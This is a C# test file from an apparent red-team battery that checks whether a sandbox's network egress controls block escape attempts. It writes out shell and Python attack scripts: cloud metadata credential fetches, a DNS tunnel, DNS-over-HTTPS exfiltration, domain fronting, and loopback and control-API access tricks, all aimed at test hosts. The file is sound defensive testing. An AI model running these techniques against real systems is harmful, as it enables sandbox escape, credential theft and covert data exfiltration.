using Airlock.RedTeam.Host.Internet;
using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Network;

/// <summary>
/// The network category. Each sandbox may reach only pkgs.test (198.18.R.2 of the battery's internet); everything
/// else it aims at is a listener of the battery that logs what reaches it. The script's own output is context.
/// </summary>
internal static class NetworkCases
{
    public static IEnumerable<IAttackCase> All()
    {
        yield return new NetworkAttack
        {
            Name = "metadata-endpoint",
            Attempts = "169.254.169.254 (routed to the battery's internet) by the proxy, directly, over TLS, CONNECT, raw TCP and UDP, and by a metadata name",
            Precondition = i => i.MetadataUnavailable,
            Script = s => $"""
                M={BatteryInternet.Metadata}
                step meta_proxy $C "http://$M/latest/meta-data/?rt={s.Nonce}"
                step meta_direct noproxy $C http://$M/latest/meta-data/iam/security-credentials/
                step meta_tls noproxy $C -k https://$M/latest/api/token -X PUT
                step meta_connect $C -k https://$M/computeMetadata/v1/
                step meta_raw python3 /tmp/net.py tcp $M 80 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n'
                step meta_udp python3 /tmp/net.py udp $M 7001
                step meta_name $C http://metadata.google.internal/computeMetadata/v1/
                """,
            Denials = _ => [("a denial of 169.254.169.254", d => Is(d, BatteryInternet.Metadata))],
        };
        yield return new NetworkAttack
        {
            Name = "denied-host-by-name",
            Attempts = "other.test by the proxy (HTTP, HTTPS), directly with its address pinned (--resolve), by DNS; x.pkgs.test and pkgs.test.other.test",
            Script = s => $"""
                step proxy_https $C https://other.test/name-{s.Nonce}
                step proxy_http $C http://other.test/name-{s.Nonce}
                step direct_https noproxy $C --resolve other.test:443:{s.Other} https://other.test/name-{s.Nonce}
                step direct_http noproxy $C --resolve other.test:80:{s.Other} http://other.test/name-{s.Nonce}
                step dns getent hosts other.test
                step subdomain $C https://x.pkgs.test/name-{s.Nonce}
                step suffix $C https://pkgs.test.other.test/name-{s.Nonce}
                """,
            Denials = s =>
            [
                ("a proxy denial of other.test", d => d.GetValueOrDefault("host") == "other.test" && d.GetValueOrDefault("via") == "proxy"),
                ("a transparent denial of other.test", d => d.GetValueOrDefault("host") == "other.test" && d.GetValueOrDefault("via") == "transparent"),
                ("a DNS refusal of other.test", d => d.GetValueOrDefault("host") == "other.test" && d.GetValueOrDefault("via") == "dns"),
            ],
        };
        yield return new NetworkAttack
        {
            Name = "denied-host-by-ip",
            Attempts = "other.test's and api.test's addresses as IP literals by the proxy and directly (HTTP, HTTPS without SNI), pkgs.test's address without a name",
            Script = s => $"""
                step proxy_http $C http://{s.Other}/ip-{s.Nonce}
                step proxy_https $C -k https://{s.Other}/ip-{s.Nonce}
                step direct_http noproxy $C http://{s.Other}/ip-{s.Nonce}
                step direct_https noproxy $C -k https://{s.Other}/ip-{s.Nonce}
                step direct_api noproxy $C -k https://{s.Api}/ip-{s.Nonce}
                step pkgs_by_ip noproxy $C -k https://{s.Pkgs}/ip-{s.Nonce}
                """,
            Denials = s => [("a denial of other.test's address", d => Is(d, s.Other))],
        };
        yield return new NetworkAttack
        {
            Name = "raw-tcp-udp-icmp",
            Attempts = "raw TCP (7000, and non-TLS bytes to 443), UDP (7001, 443) and ICMP echo (ping and raw sockets) to other.test's and pkgs.test's addresses, around the proxy",
            Script = s => $"""
                step tcp_other python3 /tmp/net.py tcp {s.Other} 7000
                step tcp_pkgs python3 /tmp/net.py tcp {s.Pkgs} 7000
                step tcp_pkgs_443 python3 /tmp/net.py tcp {s.Pkgs} 443 'not tls {s.Nonce}'
                step udp_other python3 /tmp/net.py udp {s.Other} 7001
                step udp_pkgs python3 /tmp/net.py udp {s.Pkgs} 7001
                step udp_quic python3 /tmp/net.py udp {s.Pkgs} 443
                step ping_other python3 /tmp/net.py icmp {s.Other} 0
                step ping_pkgs python3 /tmp/net.py icmp {s.Pkgs} 0
                step raw_icmp python3 /tmp/net.py rawicmp {s.Other} 0
                step ping_bin ping -c 1 -W 2 {s.Other}
                """,
            Denials = s => [("a transparent denial of other.test's TCP 7000", d => Is(d, s.Other) && d.GetValueOrDefault("port") == "7000")],
        };
        yield return new NetworkAttack
        {
            Name = "ipv6",
            Attempts = "the battery internet's IPv6 address by TCP, UDP, HTTP and ICMPv6, and IPv6 link-local all-nodes",
            Precondition = i => i.Ipv6 is null ? "the host has IPv6 off: the battery's internet has no IPv6 address to aim at" : null,
            Script = s => $"""
                V6={s.Internet.Ipv6}
                step v6_tcp python3 /tmp/net.py tcp $V6 7000
                step v6_udp python3 /tmp/net.py udp $V6 7001
                step v6_http noproxy $C -g "http://[$V6]/v6-{s.Nonce}"
                step v6_proxy $C -g "http://[$V6]/v6-{s.Nonce}"
                step v6_ping python3 /tmp/net.py icmp $V6 0
                step v6_allnodes python3 /tmp/net.py udp ff02::1%eth0 7001
                step v6_addr cat /proc/net/if_inet6
                """,
        };
        yield return new NetworkAttack
        {
            Name = "dns-tunnel",
            Attempts = "400 hand-made queries for random labels under other.test, to the resolver and to other.test's address on port 53 (UDP), and over TCP",
            Script = s => """
                cat > /tmp/tunnel.py <<'PY'
                import os, socket, struct, sys
                ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
                replies = answers = 0
                def query(i, name):
                    return struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
                for i in range(400):
                    q = query(i, os.urandom(12).hex() + '.t.other.test')
                    s.sendto(q, (sys.argv[1] if i % 10 == 9 else ns, 53))
                    try:
                        d, _ = s.recvfrom(4096)
                    except socket.timeout:
                        continue
                    replies += 1
                    if d[3] & 15 == 0 and struct.unpack('>H', d[6:8])[0] > 0: answers += 1
                for i in range(5):
                    try:
                        t = socket.create_connection((ns, 53), timeout=3); q = query(i, os.urandom(12).hex() + '.t.other.test')
                        t.sendall(struct.pack('>H', len(q)) + q); d = t.recv(4096); replies += 1
                    except OSError: pass
                print('replies=%d answers=%d' % (replies, answers))
                PY
                """ + $"\nstep tunnel python3 /tmp/tunnel.py {s.Other}\n",
            Denials = _ => [("DNS refusals of the tunnel's names", d => d.GetValueOrDefault("via") == "dns" && (d.GetValueOrDefault("host") ?? "").EndsWith(".t.other.test", StringComparison.Ordinal))],
            Alerts = ["dns_tunnel"],
        };
        yield return new NetworkAttack
        {
            Name = "dns-over-https",
            Attempts = "DNS-over-HTTPS (GET and POST application/dns-message) to other.test by name, by address, through the proxy, and DNS-over-TLS to port 853",
            Script = s => $"""
                Q=$(python3 -c "import base64,struct;n='exfil-{s.Nonce}.other.test';q=struct.pack('>HHHHHH',1,256,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in n.split('.'))+b'\0'+struct.pack('>HH',1,1);open('/tmp/q.bin','wb').write(q);print(base64.urlsafe_b64encode(q).decode().rstrip('='))")
                step doh_proxy $C -H 'accept: application/dns-message' "https://other.test/dns-query?dns=$Q"
                step doh_direct noproxy $C --resolve other.test:443:{s.Other} "https://other.test/dns-query?dns=$Q"
                step doh_ip noproxy $C -k -H 'content-type: application/dns-message' --data-binary @/tmp/q.bin https://{s.Other}/dns-query
                step dot python3 /tmp/net.py tcp {s.Other} 853
                """,
            Denials = s => [("a denial of other.test", d => Is(d, "other.test") || Is(d, s.Other))],
        };
        yield return new NetworkAttack
        {
            Name = "domain-fronting",
            Attempts = "TLS SNI pkgs.test with Host other.test (to other.test's address and to pkgs.test's, direct and through CONNECT); plain HTTP Host other.test to pkgs.test's address; the reverse (SNI other.test, Host pkgs.test)",
            Script = s => $"""
                step sni_pkgs_to_other noproxy $C --resolve pkgs.test:443:{s.Other} -H 'Host: other.test' https://pkgs.test/front-{s.Nonce}
                step sni_pkgs_host_other noproxy $C -H 'Host: other.test' https://pkgs.test/front-{s.Nonce}
                step connect_pkgs_host_other $C -H 'Host: other.test' https://pkgs.test/front-{s.Nonce}
                step http_host_other_at_pkgs noproxy $C -H 'Host: other.test' http://{s.Pkgs}/front-{s.Nonce}
                step http_host_pkgs_at_other noproxy $C -H 'Host: pkgs.test' http://{s.Other}/front-{s.Nonce}
                step proxy_url_pkgs_host_other $C -H 'Host: other.test' http://pkgs.test/front-{s.Nonce}
                step proxy_url_other_host_pkgs $C -H 'Host: pkgs.test' http://other.test/front-{s.Nonce}
                step sni_other_to_pkgs noproxy $C --resolve other.test:443:{s.Pkgs} -H 'Host: pkgs.test' https://other.test/front-{s.Nonce}
                step sni_other_to_other noproxy $C --resolve other.test:443:{s.Other} -H 'Host: pkgs.test' https://other.test/front-{s.Nonce}
                """,
            Denials = s =>
            [
                ("a denial of SNI pkgs.test to other.test's address", d => d.GetValueOrDefault("host") == "pkgs.test" && d.GetValueOrDefault("address") == s.Other),
                ("a denial of SNI other.test", d => d.GetValueOrDefault("host") == "other.test" && d.GetValueOrDefault("via") == "transparent"),
            ],
        };
        yield return new NetworkAttack
        {
            Name = "other-sandbox",
            Attempts = "a listener in a neighbour sandbox (TCP 8080, UDP 8081): HTTP directly and through the proxy, CONNECT, raw TCP, UDP, ping",
            Neighbour = true,
            Script = s => $"""
                step nb_direct noproxy $C http://{s.Neighbour}:8080/nb-{s.Nonce}
                step nb_proxy $C http://{s.Neighbour}:8080/nb-{s.Nonce}
                step nb_connect $C -p http://{s.Neighbour}:8080/nb-{s.Nonce}
                step nb_tcp python3 /tmp/net.py tcp {s.Neighbour} 8080 'raw-{s.Nonce}'
                step nb_udp python3 /tmp/net.py udp {s.Neighbour} 8081 'udp-{s.Nonce}'
                step nb_ping python3 /tmp/net.py icmp {s.Neighbour} 0
                """,
            Denials = s => [("a denial of the neighbour's address", d => Is(d, s.Neighbour!))],
        };
        yield return new NetworkAttack
        {
            Name = "host-loopback",
            Attempts = "a listener the battery holds on the host's 127.0.0.1: through the proxy as 127.0.0.1, localhost, 0.0.0.0, 2130706433, [::ffff:127.0.0.1], [::1], CONNECT; directly at the host side of its veth (TCP, UDP)",
            Loopback = true,
            Script = s => $"""
                P={s.LoopbackPort}
                for target in 127.0.0.1 localhost 0.0.0.0 2130706433 '[::ffff:127.0.0.1]' '[::1]' 127.1; do
                  step "proxy_$target" $C --noproxy '' -g "http://$target:$P/lo-{s.Nonce}"
                done
                step connect $C --noproxy '' -p http://127.0.0.1:$P/lo-{s.Nonce}
                step veth noproxy $C http://{s.Gateway}:$P/lo-{s.Nonce}
                step veth_tcp python3 /tmp/net.py tcp {s.Gateway} $P 'tcp-{s.Nonce}'
                step veth_udp python3 /tmp/net.py udp {s.Gateway} $P 'udp-{s.Nonce}'
                step inet_host noproxy $C http://{s.InternetHost}:$P/lo-{s.Nonce}
                """,
            Denials = s => [("a denial of the listener's port", d => d.GetValueOrDefault("port") == s.LoopbackPort.ToString(System.Globalization.CultureInfo.InvariantCulture))],
        };
        yield return new NetworkAttack
        {
            Name = "airlock-api",
            Attempts = "the battery's in-process daemon (127.0.0.1:PORT): /health and /v1/sandboxes through the proxy as 127.0.0.1, localhost, 0.0.0.0, CONNECT; directly at the host side of its veth and of the internet",
            Script = s => $"""
                P={s.ApiPort}
                H='X-Redteam-Nonce: {s.Nonce}'
                for target in 127.0.0.1 localhost 0.0.0.0 '[::ffff:127.0.0.1]'; do
                  step "proxy_$target" $C --noproxy '' -g -H "$H" "http://$target:$P/health?rt={s.Nonce}"
                done
                step proxy_list $C --noproxy '' -H "$H" "http://127.0.0.1:$P/v1/sandboxes?rt={s.Nonce}"
                step connect $C --noproxy '' -p -H "$H" "http://127.0.0.1:$P/health?rt={s.Nonce}"
                step veth noproxy $C -H "$H" "http://{s.Gateway}:$P/health?rt={s.Nonce}"
                step inet_host noproxy $C -H "$H" "http://{s.InternetHost}:$P/health?rt={s.Nonce}"
                """,
            Denials = s => [("a denial of the daemon's port", d => d.GetValueOrDefault("port") == s.ApiPort.ToString(System.Globalization.CultureInfo.InvariantCulture))],
        };
    }

    /// <summary>The decision is about this address or name.</summary>
    internal static bool Is(IReadOnlyDictionary<string, string> decision, string target) =>
        decision.GetValueOrDefault("address") == target || decision.GetValueOrDefault("host") == target;
}
